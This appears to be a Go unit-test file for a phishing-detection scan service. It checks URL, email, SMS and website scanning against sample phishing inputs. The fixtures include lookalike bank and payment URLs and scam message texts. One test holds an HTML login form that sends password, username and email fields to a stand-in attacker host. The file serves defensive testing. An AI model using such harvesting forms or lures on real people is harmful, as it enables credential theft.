package services

import (
	"context"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"phishshield/internal/domain/models"
	"phishshield/pkg/logger"
)

func newTestScanService(t *testing.T) (*ScanService, *MemoryThreatLog) {
	t.Helper()
	threatLog := NewMemoryThreatLog()
	return NewScanService(threatLog, nil, logger.NewDefault()), threatLog
}

func TestScanServiceScanURL(t *testing.T) {
	svc, threatLog := newTestScanService(t)
	ctx := context.Background()

	resp, err := svc.ScanURL(ctx, "http://paypa1.com/secure-login")
	require.NoError(t, err)

	assert.NotEmpty(t, resp.ScanID)
	assert.Equal(t, models.ScanTypeURL, resp.Type)
	assert.Equal(t, "http://paypa1.com/secure-login", resp.Target)
	require.Len(t, resp.Engines, 2)
	assert.Equal(t, models.EngineURLAnalyzer, resp.Engines[0].Engine)
	assert.Equal(t, models.EngineDomainChecker, resp.Engines[1].Engine)
	assert.True(t, resp.Assessment.IsPhishing)

	entries, err := threatLog.Recent(ctx, 10)
	require.NoError(t, err)
	require.Len(t, entries, 1)
	assert.Equal(t, resp.ScanID, entries[0].ID)
	assert.True(t, entries[0].IsPhishing)
}

func TestScanServiceScanURLEmptyTarget(t *testing.T) {
	svc, _ := newTestScanService(t)

	_, err := svc.ScanURL(context.Background(), "")
	assert.Error(t, err)
}

func TestScanServiceScanURLDeterministicAssessment(t *testing.T) {
	svc, _ := newTestScanService(t)
	ctx := context.Background()
	target := "http://google.com@evil.tk/login?redirect=x"

	first, err := svc.ScanURL(ctx, target)
	require.NoError(t, err)
	for i := 0; i < 3; i++ {
		again, err := svc.ScanURL(ctx, target)
		require.NoError(t, err)
		assert.Equal(t, first.Assessment.RiskScore, again.Assessment.RiskScore)
		assert.Equal(t, first.Assessment.Reasons, again.Assessment.Reasons)
		assert.Equal(t, first.Engines[0].Score, again.Engines[0].Score)
	}
}

func TestScanServiceScanURLBatchLimit(t *testing.T) {
	svc, _ := newTestScanService(t)

	urls := make([]string, maxBatchSize+1)
	for i := range urls {
		urls[i] = fmt.Sprintf("http://example-%d.com", i)
	}
	_, err := svc.ScanURLBatch(context.Background(), urls)
	assert.Error(t, err)

	_, err = svc.ScanURLBatch(context.Background(), nil)
	assert.Error(t, err)
}

func TestScanServiceScanURLBatch(t *testing.T) {
	svc, threatLog := newTestScanService(t)
	ctx := context.Background()

	batch, err := svc.ScanURLBatch(ctx, []string{"https://example.com", "http://1.2.3.4/login"})
	require.NoError(t, err)
	assert.Equal(t, 2, batch.Count)
	require.Len(t, batch.Results, 2)
	assert.Equal(t, "https://example.com", batch.Results[0].Target)

	stats, err := threatLog.Stats(ctx)
	require.NoError(t, err)
	assert.Equal(t, 2, stats.TotalScans)
}

func TestScanServiceScanEmailExtractsBodyURLs(t *testing.T) {
	svc, _ := newTestScanService(t)
	ctx := context.Background()

	body := "Your account is suspended, verify at http://chase-verify.tk/login and http://1.2.3.4/confirm now"
	resp, err := svc.ScanEmail(ctx, "Action required", body, "alerts@chase-verify.tk")
	require.NoError(t, err)

	assert.Equal(t, models.ScanTypeEmail, resp.Type)
	assert.Equal(t, "alerts@chase-verify.tk", resp.Target)
	require.Len(t, resp.Engines, 3)
	assert.Equal(t, models.EngineNLP, resp.Engines[0].Engine)
	assert.Equal(t, models.EngineURLAnalyzer, resp.Engines[1].Engine)
	assert.Equal(t, models.EngineURLAnalyzer, resp.Engines[2].Engine)
}

func TestScanServiceScanEmailRequiresContent(t *testing.T) {
	svc, _ := newTestScanService(t)

	_, err := svc.ScanEmail(context.Background(), "", "", "someone@example.com")
	assert.Error(t, err)
}

func TestScanServiceScanSMSTargetFallsBackToMessage(t *testing.T) {
	svc, _ := newTestScanService(t)
	ctx := context.Background()

	message := "Your KYC verification is pending, click http://upi-verify.xyz now"
	resp, err := svc.ScanSMS(ctx, message, "")
	require.NoError(t, err)

	assert.Equal(t, models.ScanTypeSMS, resp.Type)
	assert.Equal(t, truncate(message, 50), resp.Target)
	assert.Equal(t, "sms", resp.Engines[0].Features["content_type"])
}

func TestScanServiceScanWebsite(t *testing.T) {
	svc, _ := newTestScanService(t)
	ctx := context.Background()

	html := `<form action="http://collector.evil.tk/p"><input type="password"><input name="username"><input name="email"></form>`
	resp, err := svc.ScanWebsite(ctx, "http://paypal-login.xyz/signin", html, "PayPal Login")
	require.NoError(t, err)

	assert.Equal(t, models.ScanTypeWebsite, resp.Type)
	require.Len(t, resp.Engines, 3)
	assert.Equal(t, models.EngineURLAnalyzer, resp.Engines[0].Engine)
	assert.Equal(t, models.EngineDomainChecker, resp.Engines[1].Engine)
	assert.Equal(t, models.EngineVisual, resp.Engines[2].Engine)
	assert.True(t, resp.Assessment.IsPhishing)
}

func TestDomainOf(t *testing.T) {
	assert.Equal(t, "example.com", domainOf("https://example.com/path"))
	assert.Equal(t, "example.com:8080", domainOf("example.com:8080/x"))
	assert.Equal(t, "google.com@evil.tk", domainOf("http://google.com@evil.tk/login"))
}
